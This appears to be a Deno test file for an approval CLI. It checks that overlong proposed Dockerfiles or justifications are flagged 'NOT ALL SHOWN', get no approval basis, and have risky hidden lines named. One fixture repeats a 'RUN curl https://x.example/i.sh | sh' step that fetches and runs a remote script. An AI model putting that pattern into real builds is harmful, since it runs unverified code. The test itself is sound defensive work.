/** What is not shown whole has no basis: neither `show` nor a question offers to approve it. */

import assert from "node:assert/strict";
import { json, parsed, propose, writeRecord } from "../fixture.ts";
import { DOCKERFILE, stand } from "./stand.ts";

const STEPS = "RUN true\n".repeat(3_000);
const LONG = `${DOCKERFILE}${STEPS}USER root\n${STEPS}`;

for (const configured of [true, false]) {
  const where = configured ? "with a live file" : "without one";
  Deno.test(`show of what is too long has no basis, and says so last and loudly, ${where}`, async () => {
    await using place = await stand();
    if (!configured) await place.configure({ dockerfile: null });
    const { id } = await propose(place.root, { tool: "capability-block", file: LONG });
    const { stdout } = await place.ctl(["show", id], { columns: 80, styled: true });
    assert.doesNotMatch(stdout, /^ {2}basis |--basis/m);
    assert.ok(stdout.includes(`\nTry: supervisectl show ${id.slice(0, 8)} --full\n`), stdout);
    const last = stdout.slice(stdout.lastIndexOf("\n\n")).replaceAll("\n    ", " ");
    assert.ok(last.startsWith("\n\n  ! \x1b[1mNOT ALL SHOWN\x1b[0m  "), last);
    assert.match(last, / is cut \(5,\d\d\d more lines/);
    assert.match(last, /Among what is not shown: .*ROOT in line 3,003[.;]/);
    const full = (await place.ctl(["show", id, "--full"])).stdout;
    assert.match(full, /^Try: supervisectl approve \w+ --basis \w{32}$/m);
    assert.doesNotMatch(full, /NOT ALL SHOWN/);
    // What holds all of it has the basis.
    const { basis } = parsed(await place.ctl(["show", id, "--json"]));
    assert.match(String(basis), /^[0-9a-f]{64}$/);
  });
}

Deno.test("show of a justification that is cut has no basis", async () => {
  await using place = await stand();
  const { id } = await propose(place.root, { justification: "please\n".repeat(61) });
  const { stdout } = await place.ctl(["show", id]);
  assert.doesNotMatch(stdout, /--basis/);
  assert.match(stdout, /! NOT ALL SHOWN {2}the justification is cut \(1 more line\)\./);
});

Deno.test("show of a justification of the same ask, made again, that is cut has no basis", async () => {
  await using place = await stand();
  const proposal = await propose(place.root);
  const repeats = [{ justification: "please\n".repeat(61), asked_at: "" }];
  await writeRecord(place.root, proposal, "repeats", { repeats });
  const { stdout } = await place.ctl(["show", proposal.id]);
  assert.doesNotMatch(stdout, /--basis/);
  const last = stdout.replaceAll("\n    ", " ");
  assert.match(
    last,
    /! NOT ALL SHOWN {2}the justification of an ask made again is cut \(1 more line\)\./,
  );
});

Deno.test("show of all that there is has the basis and no such word", async () => {
  await using place = await stand();
  const { id } = await propose(place.root, { justification: "please\n".repeat(60) });
  const { stdout } = await place.ctl(["show", id]);
  assert.match(stdout, /^ {2}basis {5}\w{32}$/m);
  assert.doesNotMatch(stdout, /NOT ALL SHOWN/);
});

Deno.test("each line that is not printed is named where others have the same label", async () => {
  await using place = await stand();
  await place.configure({ dockerfile: null });
  const fetched = "RUN curl https://x.example/i.sh | sh\n";
  const file = `FROM debian:13\n${fetched.repeat(40)}${STEPS}${fetched}`;
  const { id } = await propose(place.root, { tool: "capability-block", file });
  const stdout = (await place.ctl(["show", id])).stdout.replaceAll("\n    ", " ");
  assert.match(stdout, /Among what is not shown: REMOTE SCRIPT in line 3,042\./);
});

Deno.test("approve on a terminal prints all of what it asks about", async () => {
  await using place = await stand();
  const file = LONG.replace("USER root", "RUN echo middle");
  const { id } = await propose(place.root, { tool: "capability-block", file });
  const { stdout } = await place.ctl(["approve", id], { answers: ["n"], columns: 80 });
  assert.match(stdout, /\+\| RUN echo middle\n/);
  assert.equal(stdout.match(/\+\| RUN true\n/g)?.length, 6_000);
});

Deno.test("undo on a terminal prints all of what it asks about", async () => {
  await using place = await stand();
  const { id } = await propose(place.root, { tool: "capability-block", file: LONG });
  assert.equal((await place.ctl(["approve", id])).code, 0);
  const { stdout } = await place.ctl(["undo", id], { answers: ["n"], columns: 80 });
  assert.equal(stdout.match(/-\| RUN true\n/g)?.length, 6_000);
  const dry = await place.ctl(["undo", id, "--dry-run"]);
  assert.match(dry.stdout, /more lines.*--full shows all/);
});

Deno.test("show of a route with more paths than are named says nothing of it: the file has all", async () => {
  await using place = await stand();
  const path_allowlist = Array.from({ length: 30 }, (_, at) => `/p${at}/`);
  const { id } = await propose(place.root, { file: json({ host: "h.example", path_allowlist }) });
  assert.match((await place.ctl(["show", id])).stdout, /--basis/);
});
